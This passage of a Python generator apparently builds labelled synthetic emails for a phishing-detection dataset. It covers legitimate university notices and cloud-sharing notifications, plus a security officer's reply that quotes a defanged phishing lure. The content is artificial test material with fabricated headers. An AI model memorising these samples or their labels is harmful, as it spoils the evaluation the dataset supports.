             "Registration fee: 180 EUR (students 90 EUR), including lunches and the workshop dinner. A limited number of travel grants "
             "is available for early-career researchers.\n\nOn behalf of the organising committee,\nAna Kovacevic\n\n-- \n"
             "Ana Kovacevic, PhD\nFaculty of Medicine, University of Kvarner\n_______________________________________________\n"
             f"comp-neuro mailing list -- {lst}\nTo unsubscribe send an email to comp-neuro-leave@lists.esnc.eu\n")
    hops = [dkim(I, "lists.esnc.eu", "mail", "from:from:reply-to:subject:subject:date:date:message-id:message-id:to:to:cc:mime-version:mime-version:content-type:content-type:list-id", sent + timedelta(seconds=40)),
            f"Received: from mail.lists.esnc.eu (localhost [IPv6:::1])\n\tby mail.lists.esnc.eu (Postfix) with ESMTP id {I.hex('mmq1', 10, upper=True)};\n\t{rfc(sent + timedelta(seconds=40), 'Europe/Brussels', paren=True)}",
            f"Received: from mx.unikvarner.hr (mx.unikvarner.hr [161.53.{I.num('ukip', 1, 250)}.{I.num('ukip2', 2, 250)}])\n\tby mail.lists.esnc.eu (Postfix) with ESMTPS id {I.hex('mmq2', 10, upper=True)}\n"
            f"\tfor <{lst}>; {rfc(sent + timedelta(seconds=5), 'Europe/Brussels', paren=True)}"]
    c = Conn(f"195.154.{I.num('mmip', 1, 250)}.{I.num('mmip2', 2, 250)}", "mail.lists.esnc.eu", "comp-neuro-bounces@lists.esnc.eu", "pass",
             [("pass", "lists.esnc.eu", "mail")], "pass", "lists.esnc.eu", "NONE")
    body = text(plain, "plain", "quoted-printable", "UTF-8")
    body.params = '; charset="UTF-8"; format="flowed"'
    return deliver(I, sent + timedelta(seconds=42), PETRA, c, "\n".join(hops + author), body)


@sample("bulk", "b10-bulk-hr-psc-adhesion",
        "HR notice from the university's HR platform (no-reply sender, relayed and DKIM-signed by the university) opening "
        "enrolment in the collective complementary health cover; links to the HR portal behind the university SSO")
def l_hr(I: Ids) -> bytes:
    sent = T("2026-01-13 08:15:00")
    user = "drh-ne-pas-repondre@univ-montforez.fr"
    subject = encq("Protection sociale complémentaire : ouverture de la campagne d'adhésion 2026")
    author = kit_author(I, sent, f"{encq('Direction des ressources humaines')} <{user}>", EMILE, subject, "Europe/Paris",
                        mid_domain="rh-app.univ-montforez.fr",
                        extra=["Auto-Submitted: auto-generated", "X-Auto-Response-Suppress: All", "X-Mailer: Portail RH 4.2"])
    lines = ["Madame, Monsieur,", "",
             "Le contrat collectif de protection sociale complémentaire (santé) conclu par l'université entre en vigueur le 1er avril 2026. "
             "L'adhésion est obligatoire pour les agents titulaires et contractuels, avec une participation de l'employeur à hauteur de 50 % "
             "de la cotisation.", "",
             "La campagne d'adhésion est ouverte du 13 janvier au 13 mars 2026. Pour consulter les garanties, choisir vos options et "
             "déclarer vos ayants droit, connectez-vous au portail RH (authentification universitaire habituelle) :",
             "https://rh.univ-montforez.fr/psc/adhesion", "",
             "Les dispenses d'adhésion (couverture par le contrat d'un conjoint, etc.) se déclarent sur le même portail, pièces "
             "justificatives à l'appui.", "",
             "Des réunions d'information auront lieu les 20 et 27 janvier 2026 à 12h30 (amphi B, bâtiment Condorcet) et en visio. "
             "Toutes les informations : https://intranet.univ-montforez.fr/rh/protection-sociale-complementaire", "",
             "Aucune donnée bancaire ne vous sera demandée par courriel.", "",
             "La Direction des ressources humaines", "Université de Montforez"]
    plain = "\n".join(lines) + "\n"
    html = html_doc("".join(f"<p>{linkify(l)}</p>" for l in lines if l), "fr")
    hops = [f"Received: from rh-app.univ-montforez.fr (rh-app.univ-montforez.fr [193.52.104.77])\n"
            f"\tby smtp-out.univ-montforez.fr (Postfix) with ESMTP id {I.hex('hrq', 10, upper=True)}\n\tfor <{EMILE}>; {rfc(sent, 'Europe/Paris', paren=True)}",
            dkim(I, UNIV, "smtp2024", "From:To:Subject:Date:Message-ID", sent)]
    c = Conn("193.52.104.36", "smtp-out.univ-montforez.fr", user, "pass", [("pass", UNIV, "smtp2024")], "pass", UNIV,
             "QUARANTINE", country="FR", lang="fr")
    return deliver(I, sent + timedelta(seconds=2), EMILE, c, "\n".join(hops + author), alt(f"=_{I.hex('hrb', 32)}", plain, html), {"bcl": 3})


@sample("bulk", "b10-bulk-library-alma-due",
        "Library loan-due reminder generated by Ex Libris Alma for the university library (sender on the university's "
        "domain, SPF pass through Ex Libris), listing the loans and linking to the library's Primo account page")
def l_alma(I: Ids) -> bytes:
    sent = T("2023-11-27 05:00:31")
    user = "bu-ne-pas-repondre@univ-montforez.fr"
    subject = encq("Rappel : documents à rendre avant le 04/12/2023")
    author = kit_author(I, sent, f"{encq('Bibliothèque universitaire de Montforez')} <{user}>", CHLOE, subject, "Europe/Paris",
                        mid_domain="alma.exlibrisgroup.com",
                        mid=f"{I.num('almid', 10**6, 10**7)}.{I.num('almid2', 10**6, 10**7)}.{int(sent.timestamp() * 1000)}.JavaMail.alma",
                        extra=["X-Alma-Letter: FulfillmentCourtesyLetter"])
    acct = "https://montforez.primo.exlibrisgroup.com/discovery/account?vid=33MONTF_INST:33MONTF&section=loans&lang=fr"
    html = html_doc(
        '<table width="640" style="font-family:Arial;font-size:13px"><tr><td style="background:#7a1e3a;color:#fff;padding:12px;font-size:17px">'
        'Bibliothèque universitaire de Montforez</td></tr><tr><td style="padding:16px">'
        '<p>Bonjour Chloé Dumas,</p><p>Les documents suivants sont à rendre ou à prolonger avant le <b>04/12/2023</b> :</p>'
        '<table border="1" cellpadding="4" style="border-collapse:collapse;font-size:12px"><tr><th>Titre</th><th>Cote</th><th>Date de retour</th></tr>'
        '<tr><td>Biologie des populations / Dajoz, Roger</td><td>577.88 DAJ</td><td>04/12/2023</td></tr>'
        '<tr><td>Statistiques avec R / Cornillon, Pierre-André</td><td>519.5 COR</td><td>04/12/2023</td></tr></table>'
        f'<p>Vous pouvez prolonger vos prêts depuis <a href="{acct}">votre compte lecteur</a>.</p>'
        '<p>Bibliothèque Sciences - 04 77 42 19 50 - <a href="https://bu.univ-montforez.fr">bu.univ-montforez.fr</a></p></td></tr></table>', "fr")
    hops = [f"Received: from alma-eu-prod-{I.num('alh', 10, 60)} (unknown [10.{I.num('ali', 20, 40)}.{I.num('ali2', 1, 250)}.{I.num('ali3', 1, 250)}])\n"
            f"\tby mail-relay-eu02.alma.exlibrisgroup.com (Postfix) with ESMTP id {I.hex('alq', 10, upper=True)}\n\tfor <{CHLOE}>; {rfc(sent, 'Europe/Amsterdam', paren=True)}"]
    c = Conn(f"62.216.{I.num('alip', 96, 127)}.{I.num('alip2', 2, 250)}", "mail-relay-eu02.alma.exlibrisgroup.com", user, "pass", [],
             "pass", UNIV, "QUARANTINE", country="NL", lang="fr")
    return deliver(I, sent + timedelta(seconds=2), CHLOE, c, "\n".join(hops + author), html_only(html), {"bcl": 2})


@sample("bulk", "b10-bulk-dropbox-share",
        "Genuine Dropbox 'shared a folder with you' notification (no-reply@dropbox.com, DKIM/DMARC pass) for a colleague's "
        "imaging data folder, link to www.dropbox.com/scl/fo/ with the colleague's personal note")
def l_dropbox(I: Ids) -> bytes:
    sent = T("2022-11-08 10:41:12")
    user = "no-reply@dropbox.com"
    fo = f"https://www.dropbox.com/scl/fo/{I.lower('dbfo', 21)}/h?rlkey={I.lower('dbrl', 25)}&dl=0"
    subject = 'Rui Carvalho shared "Imaging_2022_batch2" with you'
    author = kit_author(I, sent, f"Rui Carvalho (via Dropbox) <{user}>", BEATRIZ, subject, "UTC", mid_domain="dropbox.com",
                        mid=f"{I.hex('dbmid', 16)}.{int(sent.timestamp())}.{I.num('dbmid2', 1000, 9999)}",
                        reply_to="rui.carvalho@ipalvor.pt", extra=[f"X-Dropbox-Email-Type: shared_folder_invite"])
    plain = (f"Hi Beatriz,\n\nRui Carvalho (rui.carvalho@ipalvor.pt) invited you to view the folder \"Imaging_2022_batch2\" on Dropbox.\n\n"
             "Rui said: \"Animals 7-14 plus the ROI masks for session 3, as discussed.\"\n\n"
             f"Go to folder ( {fo} )\n\nEnjoy!\nThe Dropbox team\n")
    html = html_doc(
        '<table width="100%" style="font-family:\'Open Sans\',Helvetica,Arial;font-size:14px;color:#637282"><tr><td align="center">'
        '<table width="520"><tr><td style="padding:20px 0"><img src="https://cfl.dropboxstatic.com/static/images/emails/glyph/glyph_34@2x.png" width="34" height="34" alt="Dropbox"></td></tr>'
        '<tr><td><p>Hi Beatriz,</p><p>Rui Carvalho (<a href="mailto:rui.carvalho@ipalvor.pt">rui.carvalho@ipalvor.pt</a>) invited you to view the folder "<b>Imaging_2022_batch2</b>" on Dropbox.</p>'
        '<p style="background:#f7f9fa;padding:12px">Rui said: "Animals 7-14 plus the ROI masks for session 3, as discussed."</p>'
        f'<p><a href="{fo}" style="background:#0061fe;color:#fff;padding:10px 22px;text-decoration:none;border-radius:3px">Go to folder</a></p>'
        '<p>Enjoy!<br>The Dropbox team</p></td></tr></table></td></tr></table>')
    hops = [f"Received: from mailsender-{I.num('dbh', 10, 90)}.sjc.dropbox.com (localhost [127.0.0.1])\n\tby mailout-{I.num('dbo', 1, 9)}.dropbox.com (Postfix) with ESMTP id {I.hex('dbq', 10, upper=True)}\n"
            f"\tfor <{BEATRIZ}>; {rfc(sent, 'America/Los_Angeles', paren=True)}",
            dkim(I, "dropbox.com", "2018-01", "From:To:Subject:Date:Message-ID:Reply-To", sent)]
    c = Conn(f"162.125.{I.num('dbip', 1, 10)}.{I.num('dbip2', 2, 250)}", f"mailout-{I.num('dbo', 1, 9)}.dropbox.com",
             f"bounces+{I.hex('dbb', 12)}@bounce.dropbox.com", "pass", [("pass", "dropbox.com", "2018-01")], "pass", "dropbox.com", "REJECT")
    return deliver(I, sent + timedelta(seconds=2), BEATRIZ, c, "\n".join(hops + author), alt(f"===============%s==" % I.num("dbbnd", 10**18, 9 * 10**18), plain, html))


@sample("bulk", "b10-bulk-onedrive-share-internal",
        "Genuine OneDrive 'shared a folder with you' from a colleague in the same tenant, sent by SharePoint Online "
        "(no-reply@sharepointonline.com, DKIM/DMARC pass); the link is on the university's own univmontforez-my.sharepoint.com")
def l_onedrive(I: Ids) -> bytes:
    sent = T("2024-05-14 14:22:09")
    user = "no-reply@sharepointonline.com"
    link = (f"https://univmontforez-my.sharepoint.com/:f:/g/personal/marc_delorme_univ-montforez_fr/E{I.b64url('odl', 45)}"
            f"?e={I.alnum('ode', 6)}")
    subject = encq("Marc Delorme a partagé le dossier « TP chimie L3 - données 2024 » avec vous")
    author = [f"From: Marc Delorme <{user}>", f"To: {EMILE}", f"Subject: {subject}", f"Date: {rfc(sent)}",
              f"Message-ID: <{I.hex('odmid', 8)}-{I.hex('odmid2', 4)}-{I.hex('odmid3', 4)}-{I.hex('odmid4', 4)}-{I.hex('odmid5', 12)}@odspnotify>",
              f"Reply-To: Marc Delorme <{MARC}>", "MIME-Version: 1.0", "X-Sharing-Notification: true",
              "X-OriginatorOrg: sharepointonline.com"]
    html = ('<html><head><meta http-equiv="Content-Type" content="text/html; charset=utf-8"></head><body>'
            '<table width="100%" style="font-family:\'Segoe UI\',sans-serif"><tr><td align="center"><table width="520" style="border:1px solid #edebe9">'
            '<tr><td style="padding:24px"><p style="font-size:20px;color:#323130">Marc Delorme a partagé un dossier avec vous</p>'
            '<p style="color:#605e5c">« Émile, voici les fichiers de mesures des groupes du mardi, il manque encore le groupe 4. »</p>'
            '<p style="border:1px solid #edebe9;padding:12px">&#128193; <b>TP chimie L3 - données 2024</b></p>'
            f'<p><a href="{link}" style="background:#0078d4;color:#fff;padding:8px 22px;text-decoration:none">Ouvrir</a></p>'
            '<p style="font-size:12px;color:#605e5c">Ce lien fonctionne uniquement pour les destinataires directs de ce message.</p></td></tr>'
            '<tr><td style="padding:16px 24px;font-size:11px;color:#605e5c">Microsoft respecte votre confidentialité. Pour en savoir plus, consultez '
            '<a href="https://go.microsoft.com/fwlink/?LinkId=521839">la Déclaration de confidentialité</a>.<br>Microsoft Corporation, One Microsoft Way, Redmond, WA 98052</td></tr>'
            '</table></td></tr></table></body></html>\n')
    plain = ("Marc Delorme a partagé un dossier avec vous\n\n« Émile, voici les fichiers de mesures des groupes du mardi, il manque encore le groupe 4. »\n\n"
             f"TP chimie L3 - données 2024\nOuvrir <{link}>\n\nCe lien fonctionne uniquement pour les destinataires directs de ce message.\n")
    arc = ms_arc(I, sent, "sharepointonline.com", "sharepointonline.com")
    hops = [dkim(I, "sharepointonline.com", "selector1", "From:Date:Subject:Message-ID:Content-Type:MIME-Version", style="ms"),
            fold(f"Received: from PR3P264MB1987.FRAP264.PROD.OUTLOOK.COM ({ipv6(I, 'spo1')}) by PR3P264MB2001.FRAP264.PROD.OUTLOOK.COM ({ipv6(I, 'spo2')}) "
                 f"with Microsoft SMTP Server (version=TLS1_2, cipher=TLS_ECDHE_RSA_WITH_AES_256_GCM_SHA384) id {ms_version(sent, I, 'spo')}; {rfc(sent)}")]
    c = Conn(f"40.107.{I.num('spoip', 12, 13)}.{I.num('spoip2', 2, 250)}", "FRA01-MR2-obe.outbound.protection.outlook.com", user, "pass",
             [("pass", "sharepointonline.com", "selector1")], "pass", "sharepointonline.com", "REJECT", country="FR", lang="fr")
    return deliver(I, sent + timedelta(seconds=2), EMILE, c, "\n".join(arc + hops + author), alt(f"_{I.hex('odb', 32)}_", plain, html), {"bcl": 0})


@sample("bulk", "b10-bulk-google-docs-share",
        "Genuine Google Docs 'document shared with you' from a co-author (drive-shares-dm-noreply@google.com, Reply-To the "
        "co-author, DKIM google.com pass) with her note, link to docs.google.com/document/d/.../edit")
def l_gdocs(I: Ids) -> bytes:
    sent = T("2025-06-24 16:08:51")
    doc = f"https://docs.google.com/document/d/1{I.b64url('gdoc', 43)}/edit?usp=sharing_eil_se_dm&ts={I.hex('gdts', 8)}"
    subject = 'Document shared with you: "Almeida_Marques_Carvalho_manuscript_v5"'
    origin, c = google_notification_origin(
        I, sent, "\"Sofia Marques (via Google Docs)\" <drive-shares-dm-noreply@google.com>", BEATRIZ, subject, "google.com",
        f"3{I.b64url('gdb', 30)}@doclist.bounces.google.com",
        ["X-No-Auto-Attachment: 1", "Feedback-ID: P-10-0:C20060867:M110136315-en:gamma",
         f"X-Notifications: GAMMA:<{I.hex('gdn', 40)}@{I.hex('gdn2', 12)}.google.com>"],
        f"<{I.b64url('gdmid', 22)}-0@docs-share.google.com>", reply_to="\"Sofia Marques\" <sofia.marques@ipalvor.pt>")
    plain = ("Sofia Marques shared a document\n\nSofia Marques (sofia.marques@ipalvor.pt) has invited you to edit the following document:\n\n"
             "\"Beatriz, I merged Rui's comments into section 3 and rewrote the methods for the motion correction. Could you check the "
             "figure 4 legend before Friday?\"\n\nAlmeida_Marques_Carvalho_manuscript_v5\n"
             f"<{doc}>\nOpen\n<{doc}>\n\nGoogle LLC, 1600 Amphitheatre Parkway, Mountain View, CA 94043, USA\n"
             "You have received this email because sofia.marques@ipalvor.pt shared a document with you from Google Docs.\n"
             "[image: Logo for Google Docs] <https://workspace.google.com/products/docs/>\n")
    html = ('<!doctype html><html lang="en"><head><meta charset="utf-8"></head><body><div style="font-family:\'Google Sans\',Roboto,Arial;max-width:600px;padding:24px">'
            '<table><tr><td style="font-size:22px;color:#202124">Sofia Marques shared a document</td></tr></table>'
            '<p style="color:#3c4043;font-size:14px">Sofia Marques (<a href="mailto:sofia.marques@ipalvor.pt">sofia.marques@ipalvor.pt</a>) has invited you to <b>edit</b> the following document:</p>'
            '<p style="background:#f1f3f4;padding:12px;font-size:14px;color:#3c4043">Beatriz, I merged Rui\'s comments into section 3 and rewrote the methods for the motion correction. Could you check the figure 4 legend before Friday?</p>'
            f'<p style="border:1px solid #dadce0;border-radius:16px;padding:8px 12px"><a href="{doc}" style="color:#3c4043;text-decoration:none">Almeida_Marques_Carvalho_manuscript_v5</a></p>'
            f'<p><a href="{doc}" style="background:#1a73e8;color:#fff;padding:10px 24px;border-radius:4px;text-decoration:none">Open</a></p>'
            '<p style="font-size:12px;color:#5f6368">Google LLC, 1600 Amphitheatre Parkway, Mountain View, CA 94043, USA<br>You have received this email because sofia.marques@ipalvor.pt shared a document with you from Google Docs.</p>'
            '<a href="https://workspace.google.com/products/docs/"><img src="https://www.gstatic.com/docs/documents/share/images/services/document-1.png" alt="Logo for Google Docs" width="16"></a>'
            '</div></body></html>\n')
    return deliver(I, sent + timedelta(seconds=1), BEATRIZ, c, origin, alt(gmail_boundary(I), plain, html, "UTF-8"))


@sample("bulk", "b10-bulk-department-newsletter-mailchimp",
        "The biology department's monthly newsletter sent through Mailchimp with the university domain authenticated "
        "(DKIM univ-montforez.fr and mcsv.net), list-manage.com click-tracking links, open pixel and one-click unsubscribe")
def l_mailchimp(I: Ids) -> bytes:
    sent = T("2024-10-15 08:31:07")
    u = I.hex("mcu", 25)
    cid = I.hex("mccid", 10)
    e = I.hex("mce", 10)
    lid = I.hex("mclid", 10)
    base = "https://univ-montforez.us21.list-manage.com"
    track = lambda k: f"{base}/track/click?u={u}&id={I.hex('mcl' + k, 10)}&e={e}"  # noqa: E731
    subject = encq("La Lettre du Département de Biologie – octobre 2024")
    user = "communication-bio@univ-montforez.fr"
    rp = f"bounce-mc.us21_{I.num('mcacct', 100000000, 199999999)}.{I.num('mcc', 1000000, 9999999)}-{e}@mail{I.num('mcm', 100, 250)}.atl{I.num('mca', 11, 99)}.mcdlv.net"
    author = [f"From: {encq('Département de Biologie - Université de Montforez')} <{user}>", f"To: <{CLAIRE}>",
              f"Subject: {subject}", f"Date: {rfc(sent, pad=False)}", f"Message-ID: <{I.hex('mcmid', 32)}@univ-montforez.fr>",
              f"Reply-To: {encq('Département de Biologie')} <{user}>",
              f"List-Unsubscribe: <{base}/unsubscribe?u={u}&id={lid}&t=b&e={e}&c={cid}>,\n <mailto:unsubscribe-mc.us21_{u}.{cid}-{e}@unsubscribe.mailchimpapp.net?subject=unsubscribe>",
              "List-Unsubscribe-Post: List-Unsubscribe=One-Click",
              f"X-Mailer: MailChimp Mailer - **CID{cid}{e}**", f"X-Campaign: mailchimp{u}.{cid}", f"X-campaignid: mailchimp{u}.{cid}",
              f"X-Report-Abuse: Please report abuse for this campaign here:\n https://mailchimp.com/contact/abuse/?u={u}&id={cid}&e={e}",
              f"X-MC-User: {u}", f"Feedback-ID: {I.num('mcf', 10000000, 99999999)}:{I.num('mcf2', 10000000, 99999999)}.{I.num('mcf3', 1000000, 9999999)}:us21:mc",
              f"X-Accounttype: ff", f"x-mcda: FALSE", "MIME-Version: 1.0"]
    items = [("Soutenance de thèse d'Amina Diallo", "Le 7 novembre à 14h, amphi Monod : « Communautés microbiennes des torrents alpins ».", "a"),
             ("Appel à projets interne 2025", "Dépôt des dossiers jusqu'au 29 novembre sur la plateforme recherche.", "b"),
             ("Sortie terrain M1 Écologie", "Retour en images sur la campagne de prélèvements dans les gorges de la Loire.", "c"),
             ("Séminaire du laboratoire", "Jeudi 24 octobre, 12h30 : Katrin Vogel (Universität Greifenau) sur les invertébrés aquatiques.", "d")]
    html = ('<!doctype html><html xmlns="http://www.w3.org/1999/xhtml"><head><meta charset="UTF-8"><title>La Lettre du Département de Biologie</title></head>'
            '<body style="margin:0;background:#f4f4f4"><center><table width="600" style="background:#fff;font-family:Helvetica,Arial">'
            f'<tr><td style="padding:12px;font-size:11px;color:#777">Lettre d\'information - octobre 2024 | <a href="{base}/track/click?u={u}&id={I.hex("mclweb", 10)}&e={e}">Voir dans le navigateur</a></td></tr>'
            '<tr><td style="background:#2d6a4f;color:#fff;padding:22px;font-size:24px">La Lettre du Département de Biologie</td></tr>'
            + "".join(f'<tr><td style="padding:16px 22px"><h3 style="margin:0;color:#2d6a4f">{t}</h3><p>{d}</p>'
                      f'<a href="{track(k)}" style="color:#2d6a4f">Lire la suite</a></td></tr>' for t, d, k in items)
            + f'<tr><td style="padding:16px;font-size:11px;color:#777;text-align:center">Département de Biologie - Université de Montforez<br>'
            f'23 rue du Docteur Paul Michelon, 42000 Montforez<br>Vous recevez ce message en tant que membre du département.<br>'
            f'<a href="{base}/profile?u={u}&id={lid}&e={e}&c={cid}">Mettre à jour vos préférences</a> | '
            f'<a href="{base}/unsubscribe?u={u}&id={lid}&e={e}&c={cid}">Se désinscrire</a></td></tr></table></center>'
            f'<img src="{base}/track/open.php?u={u}&id={cid}&e={e}" height="1" width="1" alt=""></body></html>\n')
    plain = "La Lettre du Département de Biologie - octobre 2024\n\n" + "".join(f"** {t}\n{d}\nLire la suite ({track(k)})\n\n" for t, d, k in items) + \
        f"============================================================\nSe désinscrire: {base}/unsubscribe?u={u}&id={lid}&e={e}&c={cid}\n"
    mc = f"mail{I.num('mcm', 100, 250)}.atl{I.num('mca', 11, 99)}.mcdlv.net"
    hops = [dkim(I, "univ-montforez.fr", "k2", "Subject:From:Reply-To:To:Date:Message-ID:List-ID:List-Unsubscribe:List-Unsubscribe-Post:Content-Type:MIME-Version:CC", sent, label="mc"),
            dkim(I, "mcsv.net", "k3", "Subject:From:Reply-To:To:Date:Message-ID:List-ID:List-Unsubscribe:List-Unsubscribe-Post:Content-Type:MIME-Version:CC", sent),
            f"Received: from localhost (localhost [127.0.0.1])\n\tby {mc} (Mailchimp) with ESMTP id 4{I.alnum('mcq', 11)}\n\tfor <{CLAIRE}>; {rfc(sent, pad=False)} (GMT)"]
    c = Conn(f"198.2.{I.num('mcip', 128, 191)}.{I.num('mcip2', 2, 250)}", mc, rp, "pass", [("pass", UNIV, "k2"), ("pass", "mcsv.net", "k3")],
             "pass", UNIV, "QUARANTINE", country="US", lang="fr")
    return deliver(I, sent + timedelta(seconds=2), CLAIRE, c, "\n".join(hops + author),
                   alt(f"_----------=_MCPart_{I.num('mcbnd', 10**8, 10**9)}", plain, html), {"bcl": 6})


@sample("bulk", "b10-bulk-jobteaser-offer",
        "The career office's JobTeaser alert for a genuine student research-assistant contract in a university lab "
        "(hourly wage through HR, apply on the platform), SendGrid click tracking on links.jobteaser.com")
def l_jobteaser(I: Ids) -> bytes:
    sent = T("2025-02-25 10:03:44")
    user = "noreply@jobteaser.com"
    tracked = f"https://links.jobteaser.com/ls/click?upn=u001.{I.b64url('jtupn', 160)}"
    subject = encq("Nouvelle offre : Assistant·e de recherche (contrat étudiant) – Université de Montforez")
    author = kit_author(I, sent, f"{encq('Career Center - Université de Montforez')} <{user}>", INES, subject, "UTC",
                        mid_domain="jobteaser.com", extra=[f"List-Unsubscribe: <https://univ-montforez.jobteaser.com/fr/users/notification_settings?token={I.hex('jttok', 24)}>"])
    lines = ["Bonjour Inès,", "",
             "Une nouvelle offre correspondant à vos alertes a été publiée par le Career Center :", "",
             "Assistant·e de recherche (contrat étudiant) - Laboratoire d'écologie des hydrosystèmes",
             "Université de Montforez - Montforez (42) - 10 h/semaine, mars à juin 2025",
             "Saisie et contrôle de données de terrain, préparation d'échantillons au laboratoire.",
             "Rémunération : SMIC horaire, contrat étudiant établi par la DRH de l'université.",
             "Candidature (CV + lettre) sur JobTeaser avant le 14 mars 2025.", "",
             "Voir l'offre", "", "Le Career Center de l'Université de Montforez",
             "Toutes les offres : https://univ-montforez.jobteaser.com"]
    plain = "\n".join(lines).replace("Voir l'offre", f"Voir l'offre : {tracked}") + "\n"
    html = html_doc("".join(f'<p><a href="{tracked}" style="background:#ea6a4e;color:#fff;padding:9px 20px;text-decoration:none">Voir l\'offre</a></p>'
                            if l == "Voir l'offre" else f"<p>{linkify(l)}</p>" for l in lines if l)
                    + f'<img src="https://links.jobteaser.com/wf/open?upn=u001.{I.b64url("jtopen", 90)}" width="1" height="1" alt="">', "fr")
    sg = [f"Received: by filterdrecv-{I.hex('jtf', 10)}-{I.lower('jtf2', 5)} with SMTP id filterdrecv-{I.hex('jtf', 10)}-{I.lower('jtf2', 5)}-1-{I.hex('jtf3', 8, upper=True)}-{I.num('jtf4', 10, 99)}\n"
          f"        {rfc(sent, pad=True)} (UTC)",
          f"Received: from {I.b64('jtr', 20)} (unknown)\n\tby geopod-ismtpd-{I.num('jtg', 1, 40)} (SG) with ESMTP\n\tid {I.b64url('jtid', 22)}\n\tfor <{INES}>; {rfc(sent, pad=True)} (UTC)",
          dkim(I, "jobteaser.com", "s1", "content-type:from:mime-version:subject:to:list-unsubscribe:cc:content-type:from:subject:to", sent),
          f"X-SG-EID: \n {I.b64('jteid', 76)}", f"X-SG-ID: \n {I.b64('jtid2', 76)}", f"X-Entity-ID: {I.b64('jtent', 22)}=="]
    c = Conn(f"149.72.{I.num('jtip', 1, 250)}.{I.num('jtip2', 1, 250)}", f"o{I.num('jto2', 1, 9)}.ptr{I.num('jtptr', 1000, 9999)}.links.jobteaser.com",
             f"bounces+{I.num('jtb', 10000000, 99999999)}-{I.hex('jtbh', 4)}-{INES.replace('@', '=')}@em.jobteaser.com",
             "pass", [("pass", "jobteaser.com", "s1"), ("pass", "sendgrid.info", "smtpapi")], "pass", "jobteaser.com", "QUARANTINE",
             country="US", lang="fr")
    return deliver(I, sent + timedelta(seconds=2), INES, c, "\n".join(sg + author), alt(f"{I.hex('jtbnd', 64)}", plain, html), {"bcl": 5})


# --------------------------------------------------------------------------------------------
# Legitimate: person to person
# --------------------------------------------------------------------------------------------


@sample("clean", "b10-clean-rssi-reply-phish-report",
        "The university security officer's internal reply to a lecturer who reported the quota phishing: confirms it was "
        "phishing, quotes it with the link defanged, points to the university's own SSO password page")
def c_rssi(I: Ids) -> bytes:
    sent = T("2022-10-11 08:26:40")
    src = u_mbx(I, THOMAS)
    dst = u_mbx(I, CLAIRE)
    prev = f"<{dst.split('.')[0]}{I.hex('rsprev', 32, upper=True)}@{dst}>"
    subject = "RE: TR: Mailbox Storage Limit Reached (98%) - Action Required"
    author = exchange_author(I, sent, src, "GIRARDIN Thomas <thomas.girardin@univ-montforez.fr>",
                             "VASSEUR Claire <claire.vasseur@univ-montforez.fr>", subject, lang="fr-FR",
                             cc="signalement-phishing <signalement-phishing@univ-montforez.fr>",
                             in_reply_to=prev, references=prev, thread_topic="Mailbox Storage Limit Reached (98%) - Action Required")
    plain = ("Bonjour Claire,\n\nMerci pour votre signalement. Il s'agit bien d'un hameçonnage : le message vient du compte piraté d'une "
             "université américaine et le lien mène vers une fausse page de connexion hébergée chez Weebly "
             "(hxxps://owa-storage-upgrade-2022[.]weebly[.]com). Nous avons bloqué l'adresse et le lien pour tout l'établissement "
             "et supprimé le message des autres boîtes.\n\n"
             "Si vous avez cliqué et saisi votre mot de passe, changez-le tout de suite sur https://sso.univ-montforez.fr/motdepasse "
             "et appelez-moi au 18 07. Sinon, rien d'autre à faire.\n\n"
             "Bonne journée,\n\nThomas Girardin\nResponsable de la sécurité des systèmes d'information (RSSI)\nDirection du numérique - "
             "Université de Montforez\nTél. 04 77 42 18 07\n\n"
             "-----Message d'origine-----\nDe : VASSEUR Claire <claire.vasseur@univ-montforez.fr>\nEnvoyé : mardi 11 octobre 2022 09:52\n"
             "À : signalement-phishing <signalement-phishing@univ-montforez.fr>\nObjet : TR: Mailbox Storage Limit Reached (98%) - Action Required\n\n"
             "Bonjour, je viens de recevoir ceci, ça me paraît louche. Claire\n\n"
             "De : ITS Service Desk <kdawson@hbsu[.]edu>\nObjet : Mailbox Storage Limit Reached (98%) - Action Required\n\n"
             "Dear User, Your mailbox has reached 98% of its storage limit (1.96 GB / 2 GB). [...] please CLICK HERE [lien retiré] "
             "and complete the verification within 24 hours.\n")
    html = outlook_html("".join(f"<div>{linkify(l) if 'sso.univ' in l else l or '<br>'}</div>" for l in plain.rstrip().split("\n")))
    body = alt(outlook_boundary(I, src), plain, html)
    return assemble([], m365_internal(I, sent, author, src, dst), body)


@sample("clean", "b10-clean-partner-dropbox-link",
        "A German partner professor writes (Thunderbird, her university's own relay, DKIM/DMARC pass) with a Dropbox link "
        "to the sampling-campaign data, detailed and specific to the shared project")
def c_partner(I: Ids) -> bytes:
    sent = T("2024-03-05 16:18:02")
    user = "katrin.vogel@uni-greifenau.de"
    fo = f"https://www.dropbox.com/scl/fo/{I.lower('kvfo', 21)}/h?rlkey={I.lower('kvrl', 25)}&dl=0"
    subject = "Greifenau sampling campaign - invertebrate counts and water chemistry"
    author = kit_author(I, sent, f"Katrin Vogel <{user}>", f"Claire Vasseur <{CLAIRE}>", subject, "Europe/Berlin",
                        mid=f"{I.hex('kvmid', 8)}-{I.hex('kvmid2', 4)}-{I.hex('kvmid3', 4)}-{I.hex('kvmid4', 4)}-{I.hex('kvmid5', 12)}",
                        mid_domain="uni-greifenau.de",
                        extra=["User-Agent: Mozilla Thunderbird", "Content-Language: en-US", f"Cc: Jonas Albrecht <jonas.albrecht@uni-greifenau.de>"])
    plain = ("Dear Claire,\n\nas promised at the consortium meeting, here are the data from the February campaign on the Greifenau "
             "streams:\n\n"
             f"{fo}\n\n"
             "The folder contains\n- invertebrate_counts_2024-02.csv (sites G1-G9, three Surber samples per site)\n"
             "- water_chemistry_2024-02.xlsx (NO3, PO4, conductivity, DOC)\n- a README with the sampling protocol and the site coordinates\n\n"
             "Jonas is still checking the Chironomidae identifications for G7 and G8, so please treat those two sites as preliminary. "
             "If it is easier for your students, I can also put the files on the project Nextcloud.\n\n"
             "Shall we talk about the joint analysis on Thursday after the ANR-DFG call?\n\nBest wishes,\nKatrin\n\n-- \n"
             "Prof. Dr. Katrin Vogel\nInstitut für Gewässerökologie\nUniversität Greifenau\nTel. +49 3834 86-4412\n")
    hops = [postfix_hop(I, sent + timedelta(seconds=1), "mx-out2.uni-greifenau.de", "smtp-auth.uni-greifenau.de", "141.44.18.9", CLAIRE,
                        "Europe/Berlin", label="kv1"),
            postfix_hop(I, sent, "smtp-auth.uni-greifenau.de", "[141.44.131.52]", "141.44.131.52", CLAIRE, "Europe/Berlin",
                        auth=user, label="kv2")]
    c = Conn("141.44.18.25", "mx-out2.uni-greifenau.de", user, "pass", [("pass", "uni-greifenau.de", "mail2024")], "pass",
